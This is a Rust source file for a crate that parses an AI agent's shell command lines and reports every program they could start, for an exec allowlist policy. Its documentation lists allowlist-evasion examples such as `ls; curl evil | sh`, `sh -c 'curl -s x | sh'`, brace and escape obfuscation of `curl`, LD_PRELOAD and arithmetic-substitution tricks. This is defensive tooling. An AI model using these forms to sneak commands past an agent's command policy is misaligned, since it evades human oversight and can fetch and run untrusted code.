//! What a shell command line would run, for policy to decide on.
//!
//! An agent's `exec` call carries a command line. Judging it by its first
//! word is how allowlists get bypassed (`ls; curl evil | sh`, `env curl`,
//! `sh -c 'curl …'`, `echo $(curl …)`). [`analyze`] parses the line with
//! tree-sitter's bash grammar and reports **every** program it could start:
//! in pipelines, `&&`/`||`/`;` lists, subshells, brace groups, control flow,
//! function bodies, coprocesses, command and process substitutions wherever
//! they sit (arguments, assignments, subscripts, arithmetic, `[[ … ]]`,
//! `case` words, redirection targets, parameter expansions such as
//! `${x#$(…)}`), and behind runners (`env`, `sudo`, `timeout`, `nice`,
//! `xargs`, `find -exec`, `unshare`, `bwrap`, `systemd-run`, `ssh host cmd`,
//! …: the table in `runners.rs`), plus every redirection and its target.
//!
//! The line is read as bash reads it: a backslash-newline is deleted
//! everywhere except in single quotes, comments and quoted here-documents
//! (`cu\⏎rl` is `curl`; `parse.rs`), and a backslash before a carriage
//! return and newline, which bash and the grammar split differently, is an
//! error. A runner's options are read the way getopt reads them
//! (`sudo -Eu root curl` runs `curl`; `options.rs`).
//!
//! # Code the line carries, parsed in turn
//!
//! The rule: whatever a shell will read as code is either parsed like the
//! line itself or, if the line does not show it, makes the answer
//! [`Analysis::dynamic`]. Parsed in turn, as bash:
//!
//! - `sh -c '…'` (and bash, dash, zsh, ksh, … `-c`), `eval …`, `su -c`,
//!   `flock -c`, `script -c`, `env -S`, `watch …`, `ssh host 'cmd'` (run by
//!   the remote shell, and the host may be this one), `xterm -e`,
//!   `trap '…' SIGNAL`, `mapfile -C '…'`, `hyperfine 'cmd'` (and its
//!   `--prepare`, `--setup`, `--cleanup`), socat's `SYSTEM:cmd` and
//!   `EXEC:cmd` addresses, `capsh -- -c '…'` (`code_strings.rs`);
//! - the text between backticks, with `` \` ``, `\\` and `\$` undone, again
//!   and again for nested backticks (bounded by [`MAX_NESTING`]);
//! - a literal here-string or here-document fed to a shell that reads its
//!   commands from stdin (`bash <<< 'curl x'`, `sh <<'EOF' … EOF`), taken as
//!   the shell takes it (tabs stripped for `<<-`, escapes undone for an
//!   unquoted delimiter);
//! - backticks in the text of a here-document with an unquoted delimiter
//!   (the shell runs them; the grammar leaves them as text);
//! - the value of a variable some program runs as a command (`PAGER`,
//!   `GIT_PAGER`, `EDITOR`, `VISUAL`, `GIT_SSH_COMMAND`, `PROMPT_COMMAND`,
//!   `GIT_PROXY_COMMAND`, `SYSTEMD_PAGER`, `RSYNC_RSH`, …: the table in
//!   `environment.rs`), however it is assigned, `export 'NAME=…'` included.
//!
//! # Code the line does not show: dynamic
//!
//! - a command name that is not a literal: an expansion (`$CMD`, `"$(…)"`),
//!   a glob (`/usr/bin/c*l`), brace expansion (`cu{r,}l`), `$'\x63url'`,
//!   `$"…"`, a word `xargs` or `find -exec … {}` fills in at run time;
//! - a shell reading commands from anywhere but a literal here-string or
//!   here-document: a pipe (`… | sh`), a file (`sh < f`), a descriptor, an
//!   inherited stdin (`sh`, `sh -s`, `sh -i`), a here-document with an
//!   expansion in it;
//! - a script file run or sourced: `sh script`, `bash ./x.sh`, `sh <(…)`,
//!   `. file`, `source file`, `bash --rcfile f`; and startup files a shell
//!   reads by itself: `bash -l`, `bash -i`, `sudo -i`, `su -`, `zsh` without
//!   `-f`;
//! - any interpreter (python, perl, ruby, node, php, lua, awk `-f`, …: the
//!   table in `interpreters.rs`) run on a file or module, or on stdin that
//!   is not a literal; a shell this crate cannot parse (fish, csh, pwsh, …);
//! - what can rename a later word: `alias NAME=…`, `hash -p`, `enable -f`,
//!   `BASH_ALIASES[…]=`, `BASH_CMDS[…]=`;
//! - a variable that makes programs load code or look names up elsewhere:
//!   `PATH`, `LD_PRELOAD`, `BASH_ENV`, `ENV`, `BASH_FUNC_*`, `PS4`,
//!   `PYTHONPATH`, `NODE_OPTIONS`, `LESSOPEN`, `GIT_CONFIG_COUNT` and
//!   `GIT_CONFIG_KEY_n` (git's `-c` in the environment), `JAVA_TOOL_OPTIONS`,
//!   … — assigned before a command, on its own, by
//!   `export`/`declare`/`local`, by `env NAME=…`, or by
//!   `read`/`printf -v`/`mapfile` from input;
//! - a nameref (`declare -n`, `typeset -n`, `local -n`): it can alias any
//!   of those variables;
//! - text bash evaluates a second time (`evaluation.rs`): a `$(…)`,
//!   backtick, `<(…)` or `${` in a word bash reads as arithmetic or as a
//!   variable name with a subscript, even single-quoted (`let
//!   'x=a[$(id)]'`, `test -v`, `[[ -v ]]`, `read`, `printf -v`, `mapfile`,
//!   `unset`, `wait -p`, `declare` names and `-i` values, `a['…']=`,
//!   `$(( '…' ))`, `[[ … -eq … ]]`), a substitution whose output is
//!   evaluated (`$(( $(cat f) ))`, `${a[$(…)]}`), a name given to such a
//!   builtin that is not a literal (`read "$v"`); a variable given a value
//!   that could carry code (such a literal, a substitution's output, what
//!   `read` or a glob gives) on a line that evaluates a variable
//!   (`x='a[$(id)]'; echo $((x))`, `${!x}`, `declare -i`); and `${x@P}`,
//!   which runs substitutions in the value (the other `@` transformations
//!   run nothing);
//! - `eval`, `trap`, `sh -c`, `mapfile -C` or a code variable given a
//!   string that is not a literal;
//! - a runner whose command cannot be placed for sure: an option its
//!   grammar does not declare (it might take a value), a runner whose
//!   options are not modelled (`parallel`, `firejail`, `numactl`, `rlwrap`,
//!   `envdir`, … report their best guess too), or one that runs commands in
//!   forms not modelled (`tmux`, `screen`, `at`, `sg`, `gdb`, `perf`,
//!   `mosh`, terminal emulators, …); a runner that loads code the line does
//!   not show (the dynamic loader with `--preload`, `--audit` or
//!   `--library-path`, `trickle -P`, `nix-shell`, `nix develop`); a runner
//!   with no command that starts a shell (`unshare`, `nsenter`, `chroot`,
//!   `pkexec`, `script`, `ssh host`); `su -s` with a shell that is not
//!   bash-like; `ssh` with `-F` or an `-o` that runs local code
//!   (`ProxyCommand`, `LocalCommand`, `KnownHostsCommand`, `Match`,
//!   `RemoteCommand`); `env -S` with escapes, quotes, `$`, options or
//!   assignments in its string;
//! - a substitution in text the grammar leaves unparsed (a `${x#…}`
//!   pattern, a default word holding backticks) that a second reading of
//!   that text inside double quotes does not account for, including every
//!   `<(…)` there.
//!
//! Interpreters given code inline (`python -c`, `node -e`, `awk '…'`, or a
//! literal here-document fed to python) are listed in
//! [`Analysis::inline_code`]: the code is on the line but in a language this
//! crate does not parse. A policy should treat `dynamic` and `inline_code`
//! alike, as "could run anything". A line that does not parse is an error,
//! never a partial answer.
//!
//! # Not seen
//!
//! This crate reads the line, not the files or programs it names. Not seen:
//! programs that run commands from their own options, configuration or
//! project files (`git -c core.pager=…`, a repository's `.git/config`,
//! `ssh -o ProxyCommand=…`, `tar --to-command`, `rsync -e`, `vim -c '!…'`,
//! GNU `sed`'s `e` command, `make`, `npm run`, `cargo build`'s `build.rs`,
//! `npx`, `ssh`'s own configuration files); runners missing from the
//! table in `runners.rs` (`docker run`, `kubectl exec`, `ip netns exec`,
//! `flatpak run` report their first word only); an option a runner's
//! table declares with the wrong arity; a program copied or linked under
//! another name (`cp /usr/bin/curl x; ./x` reports `cp` and `x`); a value
//! inherited from the environment that bash evaluates as arithmetic (the
//! environment is taken to be the caller's); variables a program reads
//! that are not in the table (`LESS='+!cmd'`, `make` expanding `CC` or
//! `CFLAGS` into its recipes); socat's address options. A policy that
//! denies by program name is therefore a guard against mistakes, not a
//! wall: allow by name, and treat `dynamic` and `inline_code` as unknown.
//!
//! ```
//! let a = warrant_command::analyze("env -i sh -c 'curl -s x | sh' > /dev/null").unwrap();
//! assert_eq!(a.program_names(), ["env", "sh", "curl", "sh"]);
//! assert!(a.dynamic); // the inner `sh` reads its commands from a pipe
//! assert_eq!(a.redirects[0].target.as_deref(), Some("/dev/null"));
//! ```
//!
//! The crate is pure: no I/O, no environment, no execution.

mod builtins;
mod code_strings;
mod environment;
mod evaluation;
mod interpreters;
mod options;
mod parse;
mod runner_table;
mod runners;
mod stdin;
mod substitutions;
mod words;
mod wrappers;

use serde::Serialize;
use tree_sitter::Node;

use crate::interpreters::Code;
use crate::stdin::Stdin;
use crate::words::{literal, text};
use crate::wrappers::Inner;

/// The longest command line analysed, in bytes.
pub const MAX_COMMAND_BYTES: usize = 64 * 1024;
/// How deeply `sh -c` / `eval` strings are parsed in turn.
pub const MAX_NESTING: usize = 8;
/// The most programs reported for one line.
pub const MAX_PROGRAMS: usize = 1024;

/// Why a command line could not be analysed.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CommandError {
    #[error("the command is {0} bytes, over the {MAX_COMMAND_BYTES}-byte limit")]
    TooLong(usize),
    #[error("the command is empty")]
    Empty,
    #[error("the command is not valid shell syntax near byte {0}")]
    Syntax(usize),
    #[error("the command nests `sh -c` or `eval` deeper than {MAX_NESTING} levels")]
    TooDeep,
    #[error("the command starts more than {MAX_PROGRAMS} programs")]
    TooMany,
    #[error(
        "the command has a backslash before a carriage return at byte {0}, which bash and this parser read differently"
    )]
    CarriageReturn(usize),
    #[error("the command's line continuations change its own structure too many times to be read")]
    Continuations,
    #[error("the shell parser is unavailable: {0}")]
    Parser(String),
}

/// One program the command line could start.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Invocation {
    /// The last path component of the program, e.g. `curl` for `/usr/bin/curl`.
    pub program: String,
    /// The program as written.
    pub path: String,
    /// Its arguments as literals; an argument built from an expansion is
    /// `None`.
    pub args: Vec<Option<String>>,
    /// The wrappers it was found behind, outermost first (`["env", "sh -c"]`).
    pub via: Vec<String>,
}

/// What a redirection does to its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum RedirectKind {
    /// `<`, `<<`, `<<<`
    Read,
    /// `>`, `>|`, `&>`
    Write,
    /// `>>`, `&>>`
    Append,
    /// `<>`
    ReadWrite,
    /// `>&`, `<&` (duplicating a descriptor or, with a word, writing a file)
    Duplicate,
}

/// One redirection.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Redirect {
    pub kind: RedirectKind,
    /// The operator as written, e.g. `2>>`.
    pub operator: String,
    /// The target as a literal; `None` for a here-document or an expansion.
    pub target: Option<String>,
}

/// Everything a command line could start and touch by redirection.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
pub struct Analysis {
    /// Every program, in source order (wrappers included, then what they
    /// wrap).
    pub programs: Vec<Invocation>,
    pub redirects: Vec<Redirect>,
    /// What runs depends on something the line does not show: a command
    /// name that is not a literal, or code a shell or interpreter reads
    /// from stdin, a file, startup files, an alias or a variable (see the
    /// crate docs for the list).
    pub dynamic: bool,
    /// Programs given code inline (`python -c`, `node -e`, `perl -e`, a
    /// literal here-document fed to python, …): the code is not analysed.
    pub inline_code: Vec<String>,
}

impl Analysis {
    /// The program names, in order, with repeats.
    pub fn program_names(&self) -> Vec<&str> {
        self.programs.iter().map(|p| p.program.as_str()).collect()
    }

    /// Literal targets written or appended to (including `&>`, `>&FILE`).
    pub fn written(&self) -> Vec<&str> {
        self.redirects
            .iter()
            .filter(|r| {
                matches!(
                    r.kind,
                    RedirectKind::Write | RedirectKind::Append | RedirectKind::ReadWrite
                ) || (r.kind == RedirectKind::Duplicate
                    && r.target.as_deref().is_some_and(|t| t.parse::<u32>().is_err() && t != "-"))
            })
            .filter_map(|r| r.target.as_deref())
            .collect()
    }
}

/// Analyses `command` as bash would parse it.
pub fn analyze(command: &str) -> Result<Analysis, CommandError> {
    if command.len() > MAX_COMMAND_BYTES {
        return Err(CommandError::TooLong(command.len()));
    }
    if command.trim().is_empty() {
        return Err(CommandError::Empty);
    }
    let mut walker =
        Walker { analysis: Analysis::default(), depth: 0, evaluates: false, tainted: false };
    walker.script(command, &[])?;
    // A value that could carry code, and a place that evaluates a
    // variable's value: which reaches which is not tracked (`evaluation.rs`).
    if walker.evaluates && walker.tainted {
        walker.analysis.dynamic = true;
    }
    if walker.analysis.programs.is_empty() && !walker.analysis.dynamic {
        // Only assignments or redirections: nothing runs, but say so
        // explicitly rather than returning an empty answer by accident.
        walker.analysis.programs.clear();
    }
    Ok(walker.analysis)
}

struct Walker {
    analysis: Analysis,
    depth: usize,
    /// The line evaluates a variable's value again (arithmetic naming a
    /// variable, `declare -i`, `${!x}`, a subscript in a name).
    evaluates: bool,
    /// The line gives a variable a value that could carry code.
    tainted: bool,
}

impl Walker {
    /// Parses `source` (as bash reads it: continuations removed) and walks
    /// it; `via` are the wrappers around it.
    fn script(&mut self, source: &str, via: &[String]) -> Result<(), CommandError> {
        if self.depth > MAX_NESTING {
            return Err(CommandError::TooDeep);
        }
        let parsed = parse::parse(source)?;
        self.depth += 1;
        let walked = self.node(parsed.tree.root_node(), &parsed.text, via);
        self.depth -= 1;
        walked
    }

    /// Walks every node; commands and redirections are recorded, and
    /// everything else is descended into, so substitutions anywhere (in
    /// arguments, strings, assignments, conditions) are found.
    fn node(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        self.evaluation(node, src, via)?;
        match node.kind() {
            "command" => return self.command(node, src, via),
            "command_substitution" if text(node, src).starts_with('`') => {
                return self.backticks(node, src, via);
            }
            "file_redirect" | "heredoc_redirect" | "herestring_redirect" => {
                self.redirect(node, src, via)?;
            }
            "variable_assignment" => self.assignment(node, src, via)?,
            _ if node.child_count() == 0 => self.opaque(node, src, via)?,
            _ => {}
        }
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            self.node(child, src, via)?;
        }
        Ok(())
    }

    fn command(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        // Substitutions and redirections in any part of the command first:
        // they run (or open) before the command itself.
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            if child.kind() != "command_name" {
                self.nested_only(child, src, via)?;
            }
        }
        let Some(name) = node.child_by_field_name("name") else {
            return Ok(()); // assignments only
        };
        self.nested_only(name, src, via)?;
        let mut words = vec![literal(name, src)];
        let mut cursor = node.walk();
        for arg in node.children_by_field_name("argument", &mut cursor) {
            words.push(literal(arg, src));
        }
        let stdin = stdin::of_command(node, src);
        self.invocation(&words, via, &stdin)
    }

    /// Records redirections and commands inside `node` (substitutions)
    /// without treating `node` itself as a command word.
    fn nested_only(
        &mut self,
        node: Node<'_>,
        src: &str,
        via: &[String],
    ) -> Result<(), CommandError> {
        self.evaluation(node, src, via)?;
        let mut cursor = node.walk();
        match node.kind() {
            // Substitutions, and statements the grammar hangs off a command
            // (`coproc (curl x)`): what they run is walked in full.
            "command_substitution"
            | "process_substitution"
            | "subshell"
            | "compound_statement"
            | "command"
            | "pipeline"
            | "list"
            | "redirected_statement" => self.node(node, src, via),
            "file_redirect"
            | "heredoc_redirect"
            | "herestring_redirect"
            | "variable_assignment" => {
                if node.kind() == "variable_assignment" {
                    self.assignment(node, src, via)?;
                } else {
                    self.redirect(node, src, via)?;
                }
                for child in node.children(&mut cursor) {
                    self.nested_only(child, src, via)?;
                }
                Ok(())
            }
            _ if node.child_count() == 0 => self.opaque(node, src, via),
            _ => {
                for child in node.children(&mut cursor) {
                    self.nested_only(child, src, via)?;
                }
                Ok(())
            }
        }
    }

    /// One program with its argument words (the first is the program),
    /// and whatever it wraps; `stdin` is what it reads on standard input.
    fn invocation(
        &mut self,
        words: &[Option<String>],
        via: &[String],
        stdin: &Stdin,
    ) -> Result<(), CommandError> {
        let Some(first) = words.first() else { return Ok(()) };
        let Some(path) = first.clone() else {
            self.analysis.dynamic = true;
            return Ok(());
        };
        if self.analysis.programs.len() >= MAX_PROGRAMS {
            return Err(CommandError::TooMany);
        }
        let program = path.rsplit('/').next().unwrap_or(&path).to_owned();
        let args: Vec<Option<String>> = words.iter().skip(1).cloned().collect();
        self.analysis.programs.push(Invocation {
            program: program.clone(),
            path,
            args: args.clone(),
            via: via.to_vec(),
        });
        self.assigned_by(&program, &args, via)?;
        self.evaluating_builtin(&program, &args)?;
        match interpreters::code(&program, &args) {
            Code::None => {}
            Code::Inline => self.analysis.inline_code.push(program.clone()),
            Code::File => self.analysis.dynamic = true,
            Code::Stdin => match stdin {
                Stdin::Literal { .. } => self.analysis.inline_code.push(program.clone()),
                Stdin::Unknown => self.analysis.dynamic = true,
            },
        }
        self.inner(wrappers::unwrap(&program, &args), via, stdin)
    }

    /// What a wrapper, shell or builtin runs in turn.
    fn inner(&mut self, inner: Inner, via: &[String], stdin: &Stdin) -> Result<(), CommandError> {
        let with = |label: String| {
            let mut via = via.to_vec();
            via.push(label);
            via
        };
        match inner {
            Inner::Nothing => Ok(()),
            Inner::Dynamic => {
                self.analysis.dynamic = true;
                Ok(())
            }
            Inner::AlsoDynamic(inner) => {
                self.analysis.dynamic = true;
                self.inner(*inner, via, stdin)
            }
            Inner::Command { words, label, stdin: inherits } => {
                let stdin = if inherits { stdin } else { &Stdin::Unknown };
                self.invocation(&words, &with(label), stdin)
            }
            Inner::Commands { commands, label } => {
                let via = with(label);
                for words in commands {
                    self.invocation(&words, &via, &Stdin::Unknown)?;
                }
                Ok(())
            }
            Inner::Script { source, label } => self.script(&source, &with(label)),
            Inner::Several(inners) => {
                inners.into_iter().try_for_each(|inner| self.inner(inner, via, stdin))
            }
            Inner::Stdin { label } => match stdin {
                Stdin::Literal { text, operator } => {
                    self.script(text, &with(format!("{label} {operator}")))
                }
                Stdin::Unknown => {
                    self.analysis.dynamic = true;
                    Ok(())
                }
            },
        }
    }

    fn redirect(&mut self, node: Node<'_>, src: &str, via: &[String]) -> Result<(), CommandError> {
        if node.kind() == "heredoc_redirect" {
            self.here_document_backticks(node, src, via)?;
        }
        let mut operator = String::new();
        let mut target = None;
        let mut cursor = node.walk();
        for child in node.children(&mut cursor) {
            match child.kind() {
                "file_descriptor" => operator.push_str(text(child, src)),
                "heredoc_start" | "heredoc_body" | "heredoc_end" => {}
                k if !child.is_named() && !k.is_empty() => operator.push_str(k),
                _ => {
                    if target.is_none() {
                        target = Some(literal(child, src));
                    }
                }
            }
        }
        let op = operator.trim_start_matches(|c: char| c.is_ascii_digit());
        let kind = match op {
            "<" | "<<" | "<<-" | "<<<" => RedirectKind::Read,
            ">>" | "&>>" => RedirectKind::Append,
            "<>" => RedirectKind::ReadWrite,
            ">&" | "<&" | ">&-" | "<&-" => RedirectKind::Duplicate,
            _ => RedirectKind::Write,
        };
        let target = match node.kind() {
            "heredoc_redirect" => None,
            _ => target.flatten(),
        };
        self.analysis.redirects.push(Redirect { kind, operator, target });
        Ok(())
    }
}
